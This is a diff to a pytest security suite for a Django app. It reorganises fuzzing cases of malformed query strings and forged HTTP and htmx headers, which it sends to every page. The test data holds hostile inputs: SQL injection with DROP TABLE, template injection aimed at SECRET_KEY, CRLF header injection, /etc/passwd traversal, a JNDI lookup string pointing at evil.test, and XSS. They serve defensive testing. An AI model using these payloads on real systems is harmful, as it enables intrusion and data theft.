@@ -4,6 +4,7 @@ The addresses come from the URL resolver and the objects from the access table, 
 """
 
 import re
+from functools import partial
 from urllib.parse import urlencode
 
 import pytest
@@ -98,24 +99,21 @@ def test_ids_that_belong_to_nothing(world, hostile, number):
     assert failures(world, hostile, asked, allowed=(403, 404, 405)) == {}
 
 
+# Each asks for several things at once, each of them in another field.
 BAD_QUERIES = {
     "nul": "q=%00&page=%00",
-    "bad utf-8": "q=%ff%fe&district=%c3%28",
-    "lone surrogate": "q=%ed%a0%80",
+    "bad utf-8, lone surrogate": "q=%ff%fe&district=%c3%28&name=%ed%a0%80",
     "page 10^9": "page=1000000000",
-    "page of nothing": "page=-1&page=abc&page=1e9&page=%E4%B8%80",
-    "huge numbers": f"page={HUGE}&year={HUGE}&grade={HUGE}&pk={HUGE}&as_of={HUGE}",
-    "not numbers": "year=NaN&year=Infinity&floor_area_min=1e308&floor_area_max=NaN&as_of=2022-02-30",
-    "far dates": "as_of=0001-01-01&joined_from=9999-12-31",
+    "page of nothing, dates of nothing": "page=-1&page=abc&page=1e9&page=%E4%B8%80&as_of=2022-02-30&joined_from=9999-12-31",
+    "huge numbers": f"page={HUGE}&year={HUGE}&grade={HUGE}&pk={HUGE}&as_of={HUGE}&floor_area_min=1e308",
+    "not numbers, far dates": "year=NaN&year=Infinity&floor_area_max=NaN&as_of=0001-01-01",
     "hidden columns": "sort=bank_account&order=-password&o=user__password&ordering=organization__bank_account&password=x"
     "&user__password__startswith=p&organization__credit_code__regex=(a+)%2B%24&columns=password,__class__,{{7*7}}&listing=nothing.here",
-    "quotes and wildcards": "q='%20OR%201=1--&district=%27%3B%20DROP%20TABLE%20members_park%3B--&name=%5C%25_%25_%25",
-    "templates and breaks": "q=%7B%7B%20settings.SECRET_KEY%20%7D%7D%7B%25%20debug%20%25%7D&next=%0d%0aLocation:%20https://evil.test"
-    "&district=a%0d%0aSet-Cookie:%20x=1",
-    "many": "&".join(f"q{i}=1" for i in range(1500)),
+    "quotes, templates and breaks": "q='%20OR%201=1--%7B%7B%20settings.SECRET_KEY%20%7D%7D%7B%25%20debug%20%25%7D&name=%5C%25_%25_%25"
+    "&district=a%0d%0aSet-Cookie:%20x=1&district=%27%3B%20DROP%20TABLE%20members_park%3B--&next=%0d%0aLocation:%20https://evil.test",
+    "many, marks": "q=%E2%80%AE%E2%80%8B%EF%BB%BF%F0%9F%A6%84&" + "&".join(f"q{i}=1" for i in range(1500)),
     "long": "q=" + "x" * 7_000,
     "too long": "q=" + "x" * 9_000,
-    "marks": "q=%E2%80%AE%E2%80%8B%EF%BB%BF%F0%9F%A6%84",
 }
 
 
@@ -150,27 +148,42 @@ FOREIGN = {
     "HTTP_FORWARDED": "host=evil.test",
     "HTTP_X_FORWARDED_FOR": "127.0.0.1, x",
 }
+HTMX = {"HTTP_HX_REQUEST": "true"}
+ODD_HTMX = [
+    HTMX | {"HTTP_HX_TARGET": "../../etc/passwd", "HTTP_HX_TRIGGER": "x" * 3_000},
+    HTMX | {"HTTP_HX_CURRENT_URL": "https://evil.test/\udcff"},
+    {"HTTP_HX_REQUEST": "maybe", "HTTP_HX_BOOSTED": "x", "HTTP_HX_HISTORY_RESTORE_REQUEST": "true"},
+    HTMX | {"HTTP_HX_CURRENT_URL": "%ff%00", "HTTP_HX_CURRENT_URL_URI_AUTOENCODED": "true"},
+]  # fmt: skip
 FORGED = {
-    "htmx": {"HTTP_HX_REQUEST": "true"},
-    "htmx target": {"HTTP_HX_REQUEST": "true", "HTTP_HX_TARGET": "../../etc/passwd", "HTTP_HX_TRIGGER": "x" * 3_000},
-    "htmx elsewhere": {"HTTP_HX_REQUEST": "true", "HTTP_HX_CURRENT_URL": "https://evil.test/\udcff"},
-    "htmx nonsense": {"HTTP_HX_REQUEST": "maybe", "HTTP_HX_BOOSTED": "x", "HTTP_HX_HISTORY_RESTORE_REQUEST": "true"},
-    "htmx bad encoding": {"HTTP_HX_REQUEST": "true", "HTTP_HX_CURRENT_URL": "%ff%00", "HTTP_HX_CURRENT_URL_URI_AUTOENCODED": "true"},
-    "proxies, ranges, languages, agent": FOREIGN | {
+    "htmx": [HTMX],
+    "odd htmx": ODD_HTMX,
+    "proxies, ranges, languages, agent": [FOREIGN | {
         "HTTP_X_ORIGINAL_URL": "/admin/", "HTTP_X_REWRITE_URL": "/admin/", "HTTP_X_HTTP_METHOD_OVERRIDE": "DELETE",
         "HTTP_RANGE": "bytes=0-0,1-1,99999999-", "HTTP_IF_MODIFIED_SINCE": "never", "HTTP_IF_NONE_MATCH": '"*"',
         "HTTP_ACCEPT_LANGUAGE": "x" * 4_000 + ",*;q=NaN", "HTTP_ACCEPT": "\x7f/\x7f;q=9",
         "HTTP_USER_AGENT": "${jndi:ldap://evil.test/a}", "HTTP_REFERER": "https://evil.test/?<script>",
-    },
-    "cookies": {"HTTP_COOKIE": "theme=<script>; text_size=../; messages=x; sessionid=\x01; csrftoken="},
+    }],
+    "cookies": [{"HTTP_COOKIE": "theme=<script>; text_size=../; messages=x; sessionid=\x01; csrftoken="}],
 }  # fmt: skip
 
 
 @pytest.mark.django_db
 @pytest.mark.parametrize("kind", FORGED)
 def test_forged_headers(world, hostile, kind):
-    asked = [(name, lambda name=name: hostile.get(address(world, name), **FORGED[kind])) for name in pages()]
+    """Nothing fails, and neither a link nor a redirect takes its host from what was sent. Of several sets of headers each
+    page is asked one: what reads them is the same for all."""
+    told = []
+
+    def ask(name, headers):
+        response = hostile.get(address(world, name), **headers)
+        told.extend([name] if "evil.test" in str(response.headers) else [])
+        return response
+
+    sets = FORGED[kind]
+    asked = [(n, partial(ask, n, sets[number % len(sets)])) for number, n in enumerate(pages())]
     assert failures(world, hostile, asked) == {}
+    assert told == []
 
 
 @pytest.mark.django_db
@@ -182,15 +195,6 @@ def test_a_foreign_host_gets_nothing(world, hostile, host):
         response = hostile.get(reverse(name), HTTP_HOST=host)
         assert response.status_code == 400
         assert "evil.test" not in access.readable(response)
-
-
-@pytest.mark.django_db
-def test_no_address_repeats_a_foreign_host(world, hostile):
-    """Neither a link nor a redirect takes its host from what was sent."""
-    for name in pages():
-        for headers in (FOREIGN, FORGED["htmx elsewhere"]):
-            response = hostile.get(address(world, name), **headers)
-            assert "evil.test" not in str(response.headers), name
 
 
 # --- the way on -------------------------------------------------------------------------------------------
